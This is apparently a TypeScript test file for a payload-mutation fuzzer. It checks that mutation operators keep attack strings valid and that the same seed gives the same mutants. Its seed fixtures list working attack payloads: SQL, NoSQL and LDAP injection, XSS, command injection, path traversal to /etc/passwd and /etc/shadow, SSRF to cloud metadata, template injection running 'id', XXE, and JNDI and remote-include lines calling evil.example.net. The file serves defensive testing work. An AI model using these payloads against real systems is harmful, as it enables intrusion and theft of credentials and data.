/** Operators keep attacks attacks: how often, the oracles say; and the same seed gives the same mutants. */
import { describe, expect, test } from "vitest";
import { mutatedClasses } from "../../../adversary/classes.ts";
import { oneOf, operator, replaceSome } from "../../../adversary/mutate/operator.ts";
import { fewWords, goodWords } from "../../../adversary/mutate/words.ts";
import { seededRandom } from "../../../src/random.ts";

const seeds: Readonly<Record<string, readonly string[]>> = {
  sqli: [
    "x' or 1=1-- ",
    "1 union select name,password,3 from users",
    "x' and 1=2 union select 'abc',2,3 /* x */-- ",
    "1; drop table notes",
    "1 or not 5>6",
  ],
  xss: [
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<script>alert(document.domain)</script>",
    "<body onload=alert(1)>",
  ],
  cmdi: ["; cat /etc/passwd", "| ls -la /tmp/x", "$(whoami)", "; /usr/bin/id", "&& uname -a"],
  "path-traversal": [
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "....//....//etc/hosts",
  ],
  rfi: ["http://192.0.2.10/shell.txt", "ftp://user:pass@evil.example.net/a/b.txt"],
  ssrf: ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "http://u@localhost/a/b"],
  ssti: [
    "{{7*7}}",
    "{{config['SECRET_KEY']}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{request|attr('application')}}",
    "{{''.__class__.__mro__}}",
  ],
  nosqli: [
    '{"password":{"$ne":null}}',
    "password[$ne]=x",
    "' || '1'=='1",
    '{"$where":"this.password.length>0"}',
    '{"$gt":""}',
  ],
  ldapi: ["*)(uid=*))(|(uid=*", "admin)(&(uid=*)", "x)(|(mail=*)(cn=admin*)", "(&(uid=admin)(cn=Adm*))"],
  xxe: [
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example.net/x.dtd"> %b;]><a>x</a>',
  ],
  crlf: ["x\r\nSet-Cookie: a=b", "%0d%0aLocation: http://evil.example.net"],
  other: ["${jndi:ldap://evil.example.net/a}", "${jndi:${lower:l}${lower:d}ap://evil.example.net/a}"],
};
const samples = 12;
/** Operators that often break what they are applied to, with the least share that must hold; all others 0.5. */
const doubtful: Readonly<Record<string, number>> = {
  "sql-operator-synonym": 0.15,
  "sql-string-form": 0.3,
  "sql-versioned-comment": 0.3,
  "sql-words-before": 0.3,
  "sql-line-comment": 0.4,
  "sql-select-alias": 0.3,
  "sql-comment-edit": 0.3,
  "sql-invariant": 0.3,
  "nosql-brackets": 0.3,
  "js-tautology": 0.3,
  "html-open-end": 0,
  "script-line-comment": 0.3,
  "html-references": 0.3,
  "path-other-separator": 0.1,
  "path-fewer-parents": 0,
  "path-file-scheme": 0.4,
  "path-question-behind": 0,
  "sh-words-before": 0.4,
  "url-slashes": 0.4,
  "nosql-operator": 0.3,
  "nosql-other-fields": 0.3,
  "nosql-fields-behind": 0.3,
  "nosql-wrap": 0.3,
  "ldap-words-before": 0.2,
  "ldap-matching-rule": 0.3,
  "tpl-attribute-form": 0.4,
  "xml-drop-prolog": 0.5,
};

test("there are seeds for every class", () => {
  expect(Object.keys(seeds).sort()).toEqual(mutatedClasses.map(({ type }) => type as string).sort());
});

describe.each(mutatedClasses.map((mutated) => [mutated.type, mutated] as const))(
  "%s",
  (type, { operators, oracle }) => {
    const proofs = seeds[type]!.map((seed) => [seed, oracle.prove(seed)] as const);

    test("every seed is one", () => {
      expect(proofs.filter(([, proof]) => proof === undefined).map(([seed]) => seed)).toEqual([]);
    });

    test.each(operators.map((entry) => [entry.name, entry] as const))(
      "%s keeps attacks alive",
      (name, entry) => {
        const random = seededRandom(7);
        let made = 0;
        let valid = 0;
        for (const [seed, proof] of proofs)
          for (let sample = 0; sample < samples; sample++) {
            const mutant = entry.apply(seed, random);
            if (mutant === undefined) continue;
            expect(mutant).not.toBe(seed);
            made++;
            if (proof!(mutant)) valid++;
          }
        if (made === 0) expect(rare).toContain(name);
        else expect(valid / made, `${valid} of ${made}`).toBeGreaterThanOrEqual(doubtful[name] ?? 0.5);
      },
    );

    test("the same seed gives the same mutants", () => {
      const mutants = (): (string | undefined)[] => {
        const random = seededRandom(3);
        return operators.flatMap((entry) => seeds[type]!.map((seed) => entry.apply(seed, random)));
      };
      expect(mutants()).toEqual(mutants());
    });
  },
);

/** Operators that none of the seeds above is for. */
const rare: readonly string[] = ["url-loopback"];

test("names of operators are in kebab-case and unique within a class", () => {
  for (const { operators } of mutatedClasses) {
    const names = operators.map(({ name }) => name);
    expect(new Set(names).size).toBe(names.length);
    for (const name of names) expect(name).toMatch(/^[a-z][a-z0-9-]*$/);
  }
});

test("words hold nothing but letters, and no keyword", () => {
  expect(goodWords.length).toBeGreaterThan(500);
  for (const word of goodWords) expect(word).toMatch(/^[a-z]{2,10}$/);
  for (const word of ["select", "or", "union", "alert", "cat"]) expect(goodWords).not.toContain(word);
  expect(fewWords(seededRandom(1))).toBe(fewWords(seededRandom(1)));
});

test("a rewriting that changes nothing is none", () => {
  expect(operator("same", (payload) => payload).apply("a", seededRandom(1))).toBeUndefined();
  expect(replaceSome("abc", /x/g, seededRandom(1), () => "y")).toBeUndefined();
  expect(["a", "b"]).toContain(oneOf(seededRandom(1), ["a", "b"]));
});
